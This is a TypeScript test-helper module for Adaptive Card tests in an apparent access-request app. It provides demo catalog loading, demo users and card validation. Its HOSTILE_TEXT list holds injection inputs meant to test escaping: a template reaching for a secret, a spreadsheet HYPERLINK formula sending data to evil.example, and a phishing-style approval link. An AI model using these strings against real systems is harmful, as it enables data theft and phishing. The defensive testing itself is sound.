/** Shared by the card tests: the demo catalog, demo people, and a strict Adaptive Cards 1.5 parse. */
import path from 'node:path';
import * as AC from 'adaptivecards';
import { loadCatalogFile } from '../../../../src/adapters/catalog/catalog-file.loader';
import type { Catalog, CatalogRole } from '../../../../src/domain/catalog/catalog.model';
import { demoTenant } from '../../../../src/local/graph-sim/demo-tenant';

// NB. adaptivecards requires swiper (for carousels, which no Attest card uses), and swiper ships only as an
// ES module that Jest cannot load; Node 20 can. Parsing and validating never touch it.
jest.mock('swiper', () => ({}));

const DEMO_CATALOG = path.resolve(__dirname, '..', '..', '..', '..', 'catalog', 'demo-catalog.yaml');

/** The demo catalog, loaded and validated against the demo tenant. */
export async function demoCatalog(): Promise<Catalog> {
  const tenant = demoTenant(new Date(0));
  const { catalog } = await loadCatalogFile(DEMO_CATALOG, {
    knownGroups: new Set(tenant.groups.map((g) => g.id)),
    knownUsers: new Set(tenant.users.flatMap((u) => [u.id, u.userPrincipalName])),
  });
  return catalog;
}

/** The role `appId/roleId` of `catalog`, with its app's name; fails the test when it is missing. */
export function roleOf(
  catalog: Catalog,
  appId: string,
  roleId: string,
): { appName: string; role: CatalogRole } {
  const app = catalog.apps.find((a) => a.id === appId);
  const role = app?.roles.find((r) => r.id === roleId);
  if (!app || !role) throw new Error(`demo catalog has no role ${appId}/${roleId}`);
  return { appName: app.name, role };
}

export const SIOBHAN = { displayName: "Siobhan O'Brien", upn: 'siobhan.obrien@contoso.example' };
export const PRIYA = { displayName: 'Priya Raman', upn: 'priya.raman@contoso.example' };

/** Text a requester might type to make a card evaluate something. */
export const HOSTILE_TEXT = [
  '${$root.secret}',
  '{{DATE(x)}}',
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  '[Approve here](https://evil.example) **now** ${requestId}',
];

/** Every problem adaptivecards@2 reports when it parses `card` as schema 1.5 and checks its properties. */
export function cardProblems(card: object): string[] {
  const ctx = new AC.SerializationContext();
  ctx.targetVersion = AC.Versions.v1_5;
  const parsed = new AC.AdaptiveCard();
  parsed.parse(card, ctx);
  const problems: string[] = [];
  for (let i = 0; i < ctx.eventCount; i++) problems.push(`parse: ${ctx.getEventAt(i).message}`);
  for (const e of parsed.validateProperties().validationEvents) problems.push(`validate: ${e.message}`);
  return problems;
}

/** Every object in `json` (depth first) for which `match` holds. */
export function findAll(
  json: unknown,
  match: (o: Record<string, unknown>) => boolean,
): Record<string, unknown>[] {
  const out: Record<string, unknown>[] = [];
  const walk = (v: unknown): void => {
    if (Array.isArray(v)) v.forEach(walk);
    else if (v !== null && typeof v === 'object') {
      const o = v as Record<string, unknown>;
      if (match(o)) out.push(o);
      Object.values(o).forEach(walk);
    }
  };
  walk(json);
  return out;
}

/** Every string in `json`. */
export function allStrings(json: unknown): string[] {
  if (typeof json === 'string') return [json];
  if (Array.isArray(json)) return json.flatMap(allStrings);
  if (json !== null && typeof json === 'object') return Object.values(json).flatMap(allStrings);
  return [];
}
